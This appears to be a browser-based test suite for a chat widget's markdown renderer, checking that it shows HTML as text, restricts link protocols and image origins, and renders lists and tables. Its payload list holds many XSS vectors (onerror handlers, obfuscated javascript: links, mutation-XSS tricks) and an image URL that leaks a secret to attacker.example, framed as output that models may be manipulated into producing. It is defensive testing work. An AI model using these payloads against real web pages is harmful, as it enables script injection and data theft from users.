import { fileURLToPath } from 'node:url';
import { expect } from 'chai';
import { build } from 'esbuild';
import type { Browser, Page } from 'playwright-core';
import { openBrowser, openPage } from './browser.ts';

const source = fileURLToPath(new URL('../../plugins/svc/kit/browser/markdown.ts', import.meta.url));

/** What models were made to say and visitors tried to, so that it would run. */
const attacks = [
  '<script>attacked()</script>',
  '<img src=x onerror=attacked()>',
  '<svg onload=attacked()><animate onbegin=attacked() attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=attacked()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=attacked()>">',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<details open ontoggle=attacked()>x</details>',
  '<a href="javascript:attacked()">x</a>',
  '[x](javascript:attacked())',
  '[x](JaVaScRiPt:attacked())',
  '[x](java&#x0A;script:attacked())',
  '[x](<java\tscript:attacked()>)',
  '[x](&#x6A;avascript:attacked())',
  '[x](\u0001javascript:attacked())',
  '[x](vbscript:attacked())',
  '[x](data:text/html,<script>parent.attacked()</script>)',
  '[x](blob:https://example.com/1)',
  '[x](https://example.com/"onmouseover="attacked\\(\\))',
  '![x](javascript:attacked())',
  '![x](data:image/svg+xml,<svg onload=attacked()>)',
  '![x"onerror="attacked()](https://127.0.0.1:1/x.png)',
  '![x](https://127.0.0.1:1/"onerror="attacked())',
  '<javascript:attacked()>',
  '[x]: javascript:attacked()\n\n[x]',
  '| <img src=x onerror=attacked()> |\n|---|\n| <script>attacked()</script> |',
  '```"><img src=x onerror=attacked()>\n</code><script>attacked()</script>\n```',
  '`<img src=x onerror=attacked()>`',
  '# <img src=x onerror=attacked()>',
  '- [ ] <input autofocus onfocus=attacked()>',
  '**<b onmouseover=attacked()>x</b>**',
  '&lt;img src=x onerror=attacked()&gt;',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><button>x</button></form>',
  '<base href="https://evil.example/">',
  '<div id="attacked" name="cookie">',
];

describe('Markdown in the widget, in a real browser', () => {
  let browser: Browser;
  let page: Page;

  const html = (text: string, options = {}): Promise<string> =>
    page.evaluate(
      `(() => { const place = document.createElement('div'); place.append(markdown.renderMarkdown(${JSON.stringify(text)}, ${JSON.stringify(options)})); return place.innerHTML; })()`,
    );

  before(async () => {
    const [bundle] = (
      await build({
        entryPoints: [source],
        bundle: true,
        write: false,
        format: 'iife',
        globalName: 'markdown',
        target: 'es2020',
      })
    ).outputFiles;
    browser = await openBrowser();
    ({ page } = await openPage(browser));
    await page.addScriptTag({
      content: `${bundle?.text ?? ''}; window.attacks = 0; window.attacked = () => attacks++;`,
    });
  });
  after(() => browser.close());

  it('runs no hidden code and loads nothing, complete or while it grows', async () => {
    for (const attack of attacks) {
      const found = await page.evaluate<string[]>(`(async () => {
        const text = ${JSON.stringify(attack)};
        const place = document.body.appendChild(document.createElement('div'));
        const show = markdown.createMarkdownView(place);
        const found = [];
        const look = () => {
          for (const element of place.querySelectorAll('*')) {
            if (!/^(P|A|SPAN|IMG|CODE|PRE|TABLE|THEAD|TBODY|TR|TH|TD|UL|OL|LI|H[1-6]|STRONG|EM|DEL|BLOCKQUOTE|BR|HR|DIV)$/.test(element.tagName)) found.push(element.tagName);
            for (const { name } of element.attributes) if (!/^(href|src|alt|title|target|rel|align|start|class|tabindex|loading|referrerpolicy)$/.test(name)) found.push(name);
          }
          for (const link of place.querySelectorAll('a')) if (!/^(https?|mailto|tel):$/.test(link.protocol)) found.push(link.href);
          for (const image of place.querySelectorAll('img')) found.push(image.src);
          for (const element of place.querySelectorAll('*')) element.dispatchEvent(new MouseEvent('mouseover'));
          for (const link of place.querySelectorAll('a[href^="java" i]')) link.click();
        };
        for (let length = 1; length <= text.length; length++) { show(text.slice(0, length)); look(); }
        place.append(markdown.renderMarkdown(text));
        look();
        await new Promise((resolve) => setTimeout(resolve));
        place.remove();
        return found;
      })()`);
      expect(found, attack).to.deep.equal([]);
    }
    expect(await page.evaluate('attacks')).to.equal(0);
  });

  it('shows HTML as text', async () => {
    expect(await html('a <b>bold</b> claim & more')).to.equal('<p>a &lt;b&gt;bold&lt;/b&gt; claim &amp; more</p>');
    expect(await html('&copy; &mdash; &euro; &Eacute;&eacute; &nope; [x](https://example.com/caf&eacute;)'))
      .to.contain('© — € Éé &amp;nope; ')
      .and.contain('/caf%C3%A9"');
    expect(await html('one<br>two &amp; &lt;three&gt; &#39;four&#x27;')).to.equal(
      "<p>one<br>two &amp; &lt;three&gt; 'four'</p>",
    );
  });

  it('opens links in a new tab', async () => {
    expect(await html('[x](https://example.com/a?b=1&c=2 "t")')).to.equal(
      '<p><a href="https://example.com/a?b=1&amp;c=2" title="t" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    );
  });

  it('loads images of the given origins only, and shows the others as links', async () => {
    const imageOrigins = ['https://127.0.0.1:1'];
    expect(await html('![x](https://127.0.0.1:1/x.png)', { imageOrigins })).to.contain(
      '<img src="https://127.0.0.1:1/x.png" alt="x" loading="lazy" referrerpolicy="no-referrer">',
    );
    expect(await html('![x](https://attacker.example/p.png?leak=hunter2)', { imageOrigins })).to.equal(
      '<p><a href="https://attacker.example/p.png?leak=hunter2" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
    );
    expect(await html('![](https://attacker.example/p.png)')).to.contain('>attacker.example</a>');
    expect(await html('![x](https://127.0.0.1:1@attacker.example/p.png)', { imageOrigins })).not.to.contain('<img');
    for (const address of ['http://example.com/x.png', '/x.png', '//example.com/x.png', 'data:image/png;base64,AAAA'])
      expect(await html(`![a **picture**](${address})`, { imageOrigins })).to.not.contain('<img');
    expect(await html('![x](https://example.com/x.png)', { imageOrigins: 'any' })).to.contain('<img');
  });

  it('renders lists, tables, code, headings below those of the window, and checkboxes', async () => {
    expect(await html('3. a\n4. b')).to.equal('<ol start="3"><li>a</li><li>b</li></ol>');
    expect(await html('- [x] a\n- [ ] b')).to.match(/<li class="task">☑ a<\/li><li class="task">☐ b<\/li>/);
    expect(await html('# a\n\n###### b')).to.equal('<h3>a</h3><h4>b</h4>');
    expect(await html('### a\n\n#### b\n\n## c')).to.equal('<h3>a</h3><h4>b</h4><h3>c</h3>');
    expect(await html('| a |\n|:-:|\n| `b` |')).to.equal(
      '<div class="table" tabindex="0"><table><thead><tr><th align="center">a</th></tr></thead><tbody><tr><td align="center"><code>b</code></td></tr></tbody></table></div>',
    );
    expect(await html('```ts\na < b\n```')).to.equal('<pre tabindex="0"><code>a &lt; b</code></pre>');
    expect(await html('> a\n> - ~~b~~ *c*')).to.equal(
      '<blockquote><p>a</p><ul><li><del>b</del> <em>c</em></li></ul></blockquote>',
    );
  });

  it('has the same result however it is split, and keeps unchanged nodes', async () => {
    const text =
      'One [ref] here.\n\n- a\n  ```js\n  x\n  ```\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n**end** of it\n\n[ref]: https://example.com/';
    const [grown, kept] = await page.evaluate<[string, boolean]>(`(() => {
      const text = ${JSON.stringify(text)};
      const place = document.createElement('div');
      const show = markdown.createMarkdownView(place, ({ block }) => { const frame = document.createElement('div'); block.replaceWith(frame); frame.append(block); });
      let first;
      for (let length = 1; length <= text.length; length++) { show(text.slice(0, length)); if (length === 60) first = place.firstChild; if (length === text.length - 30 && place.firstChild !== first) first = null; }
      return [place.innerHTML.replace('<div><pre', '<pre').replace('</pre></div>', '</pre>'), first !== null];
    })()`);
    expect(grown).to.equal(await html(text));
    expect(kept).to.equal(true);
  });
});
